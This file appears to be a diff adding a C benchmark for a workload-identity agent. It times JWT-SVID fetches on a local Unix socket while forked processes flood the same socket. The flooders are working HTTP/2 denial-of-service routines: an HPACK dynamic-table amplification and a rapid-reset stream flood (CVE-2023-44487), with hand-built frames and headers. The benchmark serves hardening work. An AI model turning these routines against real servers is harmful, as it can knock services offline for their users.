@@ -1,0 +1,327 @@
+/*
+ * bench/grpc-abuse: a normal client's FetchJWTSVID latency on a real
+ * cubeid-agent, alone and while other processes attack the same socket
+ * (hardening issue, Medium 6):
+ *   - hpack: each attacker sends requests whose header block puts a 4,000
+ *     byte field in the HPACK dynamic table and references it 10,000 times;
+ *   - reset: each attacker opens streams and resets them at once (rapid
+ *     reset, CVE-2023-44487), reconnecting when the agent says GOAWAY.
+ * It prints p50 and p99 of each phase and the ratio of each p50 to the
+ * baseline's, measured in this one run.  No thresholds: the machine is
+ * noisy, compare ratios.
+ *
+ *   grpc-abuse --socket PATH [--seconds N] [--attackers K]
+ */
+#include "config.h"
+
+#include <errno.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <cubeid/workloadapi.h>
+
+static const char *sock_path;
+
+static double
+now_s(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static int
+cmp_double(const void *a, const void *b)
+{
+	double x = *(const double *)a, y = *(const double *)b;
+
+	return x < y ? -1 : x > y;
+}
+
+/* ------------------------------------------------------------ attackers */
+
+static void
+put_frame_hdr(uint8_t *b, size_t len, uint8_t type, uint8_t flags, uint32_t stream)
+{
+	b[0] = (uint8_t)(len >> 16);
+	b[1] = (uint8_t)(len >> 8);
+	b[2] = (uint8_t)len;
+	b[3] = type;
+	b[4] = flags;
+	b[5] = (uint8_t)(stream >> 24);
+	b[6] = (uint8_t)(stream >> 16);
+	b[7] = (uint8_t)(stream >> 8);
+	b[8] = (uint8_t)stream;
+}
+
+/* A literal field without indexing, new name (lengths < 127). */
+static void
+put_hdr(uint8_t *b, size_t *off, const char *name, const char *value)
+{
+	size_t nl = strlen(name), vl = strlen(value);
+
+	b[(*off)++] = 0x00;
+	b[(*off)++] = (uint8_t)nl;
+	memcpy(b + *off, name, nl);
+	*off += nl;
+	b[(*off)++] = (uint8_t)vl;
+	memcpy(b + *off, value, vl);
+	*off += vl;
+}
+
+static void
+hpack_int(uint8_t *b, size_t *off, uint8_t flags, unsigned bits, size_t v)
+{
+	size_t max = (1u << bits) - 1;
+
+	if (v < max) {
+		b[(*off)++] = (uint8_t)(flags | v);
+		return;
+	}
+	b[(*off)++] = (uint8_t)(flags | max);
+	for (v -= max; v >= 128; v >>= 7)
+		b[(*off)++] = (uint8_t)(0x80 | (v & 0x7f));
+	b[(*off)++] = (uint8_t)v;
+}
+
+static size_t
+request_fields(uint8_t *b, size_t off)
+{
+	put_hdr(b, &off, ":method", "POST");
+	put_hdr(b, &off, ":scheme", "http");
+	put_hdr(b, &off, ":path", "/SpiffeWorkloadAPI/FetchJWTSVID");
+	put_hdr(b, &off, "content-type", "application/grpc");
+	put_hdr(b, &off, "workload.spiffe.io", "true");
+	return off;
+}
+
+static int
+h2_connect(uint8_t *b, size_t *off)
+{
+	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+	struct sockaddr_un sa = {.sun_family = AF_UNIX};
+	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock_path);
+	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
+		if (fd >= 0)
+			close(fd);
+		return -1;
+	}
+	memcpy(b, preface, sizeof(preface) - 1);
+	*off = sizeof(preface) - 1;
+	put_frame_hdr(b + *off, 0, 0x4, 0, 0);
+	*off += 9;
+	return fd;
+}
+
+/* Send b, and read whatever comes back so that the agent's output never
+ * blocks on us; returns when the agent closes or `until` passes. */
+static void
+blast(int fd, const uint8_t *b, size_t n, double until)
+{
+	size_t sent = 0;
+	uint8_t junk[16384];
+
+	while (now_s() < until) {
+		struct pollfd p = {.fd = fd, .events = POLLIN | (sent < n ? POLLOUT : 0)};
+
+		if (poll(&p, 1, 100) < 0)
+			return;
+		if (p.revents & POLLIN) {
+			ssize_t r = read(fd, junk, sizeof(junk));
+
+			if (r <= 0)
+				return;
+		}
+		if (p.revents & (POLLERR | POLLHUP))
+			return;
+		if ((p.revents & POLLOUT) && sent < n) {
+			ssize_t w = send(fd, b + sent, n - sent, MSG_NOSIGNAL | MSG_DONTWAIT);
+
+			if (w < 0 && errno != EAGAIN && errno != EINTR)
+				return;
+			if (w > 0)
+				sent += (size_t)w;
+		}
+		if (sent == n)
+			return;
+	}
+}
+
+static void
+attack_hpack(double until)
+{
+	static uint8_t b[64 * 1024];
+
+	while (now_s() < until) {
+		size_t off, hb, end, i;
+		int fd = h2_connect(b, &off);
+
+		if (fd < 0) {
+			usleep(1000);
+			continue;
+		}
+		for (uint32_t sid = 1; sid < 8 && off + 16 * 1024 < sizeof(b); sid += 2) {
+			hb = off + 9;
+			end = request_fields(b, hb);
+			hpack_int(b, &end, 0x40, 6, 0);
+			hpack_int(b, &end, 0x00, 7, 1);
+			b[end++] = 'x';
+			hpack_int(b, &end, 0x00, 7, 4000);
+			memset(b + end, 'b', 4000);
+			end += 4000;
+			for (i = 0; i < 10000; i++)
+				b[end++] = 0x80 | 62;
+			put_frame_hdr(b + off, end - hb, 0x1, 0x4 | 0x1, sid);
+			off = end;
+		}
+		blast(fd, b, off, until);
+		close(fd);
+	}
+}
+
+static void
+attack_reset(double until)
+{
+	static uint8_t b[256 * 1024];
+
+	while (now_s() < until) {
+		size_t off;
+		int fd = h2_connect(b, &off);
+
+		if (fd < 0) {
+			usleep(1000);
+			continue;
+		}
+		for (uint32_t sid = 1; off + 200 < sizeof(b); sid += 2) {
+			size_t hb = off + 9, end = request_fields(b, hb);
+
+			put_frame_hdr(b + off, end - hb, 0x1, 0x4, sid);
+			off = end;
+			put_frame_hdr(b + off, 4, 0x3, 0, sid);
+			memset(b + off + 9, 0, 3);
+			b[off + 12] = 0x8; /* CANCEL */
+			off += 13;
+		}
+		blast(fd, b, off, until);
+		close(fd);
+	}
+}
+
+/* ------------------------------------------------------------ the client */
+
+struct phase {
+	const char *name;
+	double p50, p99;
+	size_t n, failed;
+};
+
+static void
+measure(struct phase *ph, double seconds)
+{
+	const char *aud[] = {"bench-grpc-abuse"};
+	struct cubeid_wl_opts o = {.socket = sock_path};
+	size_t cap = 1u << 20, n = 0;
+	double *lat = malloc(cap * sizeof(*lat)), until = now_s() + seconds;
+
+	ph->failed = 0;
+	while (lat != NULL && now_s() < until && n < cap) {
+		struct cubeid_wl_jwt *j = NULL;
+		struct cubeid_wl_status st;
+		double t0 = now_s();
+
+		if (cubeid_wl_fetch_jwt(&o, aud, 1, NULL, &j, &st) == 0)
+			lat[n++] = now_s() - t0;
+		else
+			ph->failed++;
+		cubeid_wl_jwt_free(j);
+	}
+	ph->n = n;
+	ph->p50 = ph->p99 = 0;
+	if (n > 0) {
+		qsort(lat, n, sizeof(*lat), cmp_double);
+		ph->p50 = lat[n / 2];
+		ph->p99 = lat[n * 99 / 100];
+	}
+	free(lat);
+}
+
+static void
+run_phase(struct phase *ph, void (*attack)(double), int attackers, double seconds)
+{
+	pid_t pids[64];
+	int i, k = 0;
+
+	if (attack != NULL) {
+		double until = now_s() + seconds + 1.0;
+
+		for (i = 0; i < attackers && i < 64; i++) {
+			pid_t p = fork();
+
+			if (p == 0) {
+				attack(until);
+				_exit(0);
+			}
+			if (p > 0)
+				pids[k++] = p;
+		}
+		usleep(300 * 1000); /* let the attack start */
+	}
+	measure(ph, seconds);
+	for (i = 0; i < k; i++) {
+		kill(pids[i], SIGKILL);
+		waitpid(pids[i], NULL, 0);
+	}
+}
+
+int
+main(int argc, char **argv)
+{
+	struct phase ph[3] = {{.name = "alone"}, {.name = "hpack"}, {.name = "reset"}};
+	double seconds = 5;
+	int attackers = 4, i;
+
+	for (i = 1; i < argc; i++) {
+		if (strcmp(argv[i], "--socket") == 0 && i + 1 < argc)
+			sock_path = argv[++i];
+		else if (strcmp(argv[i], "--seconds") == 0 && i + 1 < argc)
+			seconds = atof(argv[++i]);
+		else if (strcmp(argv[i], "--attackers") == 0 && i + 1 < argc)
+			attackers = atoi(argv[++i]);
+		else {
+			fprintf(stderr, "usage: %s --socket PATH [--seconds N] [--attackers K]\n",
+			        argv[0]);
+			return strcmp(argv[i], "--help") == 0 ? 0 : 2;
+		}
+	}
+	if (sock_path == NULL || seconds <= 0 || attackers < 1) {
+		fprintf(stderr, "grpc-abuse: --socket is required\n");
+		return 2;
+	}
+	run_phase(&ph[0], NULL, 0, seconds);
+	run_phase(&ph[1], attack_hpack, attackers, seconds);
+	run_phase(&ph[2], attack_reset, attackers, seconds);
+	printf("%-8s %10s %10s %10s %8s %8s\n", "phase", "calls", "p50 ms", "p99 ms", "failed",
+	       "p50/alone");
+	for (i = 0; i < 3; i++)
+		printf("%-8s %10zu %10.3f %10.3f %8zu %8.2f\n", ph[i].name, ph[i].n,
+		       ph[i].p50 * 1e3, ph[i].p99 * 1e3, ph[i].failed,
+		       ph[0].p50 > 0 ? ph[i].p50 / ph[0].p50 : 0.0);
+	/* a smoke run checks that every phase served its client */
+	for (i = 0; i < 3; i++)
+		if (ph[i].n == 0)
+			return 1;
+	return 0;
+}
